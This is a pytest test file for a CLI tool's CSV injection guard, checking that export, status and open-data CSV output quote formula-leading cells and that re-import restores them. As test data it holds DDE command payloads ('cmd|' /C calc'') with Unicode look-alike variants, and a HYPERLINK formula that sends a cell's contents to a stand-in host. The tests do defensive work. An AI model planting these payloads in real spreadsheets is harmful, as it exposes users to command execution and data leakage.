"""Issue 19, item 5: no CSV trygghet writes carries a live formula (OWASP's CSV injection
advice): a cell starting with =, +, -, @, a tab or a carriage return gets a leading ',
in `status --format csv` and `export activities --format csv`; xlsx cells stay strings;
`import` takes its own export back unchanged."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from tests.reliability import hostile
from tests.reliability.conftest import assert_clean
from trygghet_cli.output.csv_cells import inert

FORMULAS = ['=HYPERLINK("http://x.example/?x="&A1,"Klicka")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\uff1d1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_cell_gets_a_guard_quote_and_plain_numbers_do_not(text) -> None:
    assert inert(text) == "'" + text
    assert inert("-3") == "-3" and inert("+4,5") == "+4,5" and inert("Text =x") == "Text =x"


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter)
            for cell in row]


@pytest.mark.parametrize("formula", [f for f in FORMULAS if "\r" not in f])  # data holds no CR
def test_no_csv_the_tool_writes_starts_a_cell_with_a_formula(run, tmp_path, formula) -> None:
    root = hostile.write_root(tmp_path / "root", lambda s: "internt" if hostile.is_internal(s) else formula)
    # Swedish (';' by default), English (','), and each with the other separator chosen
    ways = [(command, args, lang, chosen, chosen or default)
            for command, args in (("status", ["--as-of", "2025-01-15"]), ("export", ["activities"]))
            for lang, default in (("sv", ";"), ("en", ","))
            for chosen in ("", "," if default == ";" else ";")]
    for command, args, lang, chosen, delimiter in ways:
        result = run("--data", str(root), "--lang", lang, command, *args, "--format", "csv",
                     *(["--delimiter", chosen] if chosen else []))
        assert_clean(result, exits=(0,))
        cells = _cells(result.stdout, delimiter)
        assert "'" + formula in cells, cells
        assert not any(c and c[0] in "=+@\t\r\uff1d" for c in cells), cells


def test_xlsx_cells_with_formulas_stay_strings(run, tmp_path) -> None:
    root = hostile.write_root(tmp_path / "root",
                              lambda s: "internt" if hostile.is_internal(s) else FORMULAS[0])
    out = tmp_path / "a.xlsx"
    assert_clean(run("--data", str(root), "export", "activities", "--format", "xlsx", "-o", str(out)),
                 exits=(0,))
    with zipfile.ZipFile(out) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet


def test_import_of_its_own_csv_export_takes_the_guard_quote_away(run, tmp_path) -> None:
    root = hostile.write_root(tmp_path / "root",
                              lambda s: "internt" if hostile.is_internal(s) else f"Text {s}")
    listing = root / "activities" / "2024-2025.yaml"
    listing.write_text(listing.read_text(encoding="utf-8").replace(
        '"Text activity_title"', '"=1+1 är en formel"'), encoding="utf-8")
    out = tmp_path / "a.csv"
    assert_clean(run("--data", str(root), "export", "activities", "--format", "csv", "-o", str(out)),
                 exits=(0,))
    assert "'=1+1 är en formel" in out.read_text(encoding="utf-8-sig")
    before = listing.read_bytes()
    result = run("--data", str(root), "import", "activities", str(out), "--period", "2024-2025")
    assert_clean(result, exits=(0,))
    assert b"'=1+1" not in listing.read_bytes()
    assert listing.read_bytes() == before


# Issue 28, item 10: the fullwidth and small forms of the formula starts, and the minus and
# dash look-alikes, in every CSV: the site's open data uses the same function as export.
LOOK_ALIKES = ["\uff1d1+1", "\ufe661+1", "\uff0bSUM(1,2)", "\ufe62SUM(1,2)", "\uff0dcmd|' /C calc'!A0",
               "\ufe63cmd|' /C calc'!A0", "\uff20SUM(A1:A2)", "\ufe6bSUM(A1:A2)", "\u2212cmd|' /C calc'!A0",
               "\u200b=1+1"]


@pytest.mark.parametrize("text", LOOK_ALIKES)
def test_fullwidth_small_and_minus_like_formula_starts_get_the_guard_quote(text) -> None:
    assert inert(text) == "'" + text
    assert inert("Text \ufe66x") == "Text \ufe66x"


def test_the_site_open_data_csv_guards_every_formula_start_as_export_does(run, tmp_path) -> None:
    starts = [*FORMULAS[:4], *LOOK_ALIKES]
    slots = {slot: starts[i % len(starts)] for i, slot in enumerate(
        s for s in hostile.slots() if not hostile.is_internal(s))}
    root = hostile.write_root(tmp_path / "root",
                              lambda s: "internt" if hostile.is_internal(s) else slots.get(s, "x"))
    out = tmp_path / "site"
    assert_clean(run("--data", str(root), "site", "-o", str(out), "--as-of", "2025-01-15"), exits=(0,))
    cells = [cell for csv_file in (out / "oppna-data").glob("*.csv")
             for cell in _cells(csv_file.read_text(encoding="utf-8-sig"))]
    live = [c for c in cells if c and inert(c) != c]
    assert live == []
    assert any(c == "'" + LOOK_ALIKES[1] for c in cells), "a small equals sign was in the data"
